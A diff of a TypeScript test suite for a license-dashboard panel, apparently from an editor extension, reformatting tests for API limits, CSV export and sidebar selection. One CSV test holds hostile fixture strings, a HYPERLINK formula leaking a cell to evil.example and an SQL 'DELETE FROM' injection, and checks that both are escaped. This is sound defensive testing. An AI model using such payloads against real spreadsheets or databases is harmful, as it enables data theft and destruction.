@@ -15,7 +15,8 @@ describe('dashboard panel protocol', () => {
   let lma: TestApi;
   let demo: DemoControl;
   let nextId = 100;
-  const ask = async (name: string, params: unknown) => (await lma.dashboard.dispatch({ type: 'request', id: ++nextId, name, params })) as Extract<HostToPage, { type: 'response' }>;
+  const ask = async (name: string, params: unknown) =>
+    (await lma.dashboard.dispatch({ type: 'request', id: ++nextId, name, params })) as Extract<HostToPage, { type: 'response' }>;
   const load = async (options = OPTIONS) => {
     const reply = await ask('load', options);
     assert.equal(reply.ok, true, JSON.stringify(reply));
@@ -74,7 +75,7 @@ describe('dashboard panel protocol', () => {
     await demo.setApiLimitReached(true);
     const stale = await load();
     assert.equal(stale.state, 'ready');
-    assert.match(stale.state === 'ready' ? stale.stale?.message ?? '' : '', /daily API request limit/);
+    assert.match(stale.state === 'ready' ? (stale.stale?.message ?? '') : '', /daily API request limit/);
     const fresh = await ask('load', { ...OPTIONS, churnDays: 31 });
     assert.equal(fresh.ok, false);
     assert.match(!fresh.ok ? fresh.error.message : '', /daily API request limit/);
@@ -115,7 +116,10 @@ describe('dashboard panel protocol', () => {
       assert.match(lines[0], /^\uFEFFLicense,Status,State,Subscriber,/);
       const csv = lines.join('\n');
       assert.ok(csv.includes('"O\'Brien & ""Sons"" <b>Ltd</b>"'), 'quotes are doubled inside a quoted field');
-      assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for a discount"")"`), 'a formula-like name is neutralised with a leading apostrophe');
+      assert.ok(
+        csv.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for a discount"")"`),
+        'a formula-like name is neutralised with a leading apostrophe',
+      );
       assert.ok(!/(^|,)"?=/m.test(csv), 'no cell starts a spreadsheet formula');
       assert.ok(csv.includes(`"'; DELETE FROM sfLma__License__c; -- \\ %_ "`) || csv.includes("'; DELETE FROM"), 'hostile text is kept as text');
     } finally {
@@ -124,7 +128,7 @@ describe('dashboard panel protocol', () => {
     }
   });
 
-  it('shows a chart segment\'s licenses in the sidebar: a version, a renewal window, a subscriber', async () => {
+  it("shows a chart segment's licenses in the sidebar: a version, a renewal window, a subscriber", async () => {
     const all = await load();
     const view = await load({ ...OPTIONS, packageId: all.state === 'ready' ? all.packages[0].id : '' });
     assert.equal(view.state, 'ready');
@@ -142,7 +146,10 @@ describe('dashboard panel protocol', () => {
     assert.match(String(lma.views.installBaseView.description), new RegExp(`expiring ${bucket.from} – ${bucket.to}`));
 
     await ask('showInTree', { kind: 'subscriber', orgId: view.renewingNext[0].orgId });
-    const org = await eventually(() => lma.views.subscribersView.selection[0] as { kind: string; org?: { orgKey: string } } | undefined, 'the org to be selected');
+    const org = await eventually(
+      () => lma.views.subscribersView.selection[0] as { kind: string; org?: { orgKey: string } } | undefined,
+      'the org to be selected',
+    );
     assert.equal(org.org?.orgKey, view.renewingNext[0].orgId.slice(0, 15));
   });
 
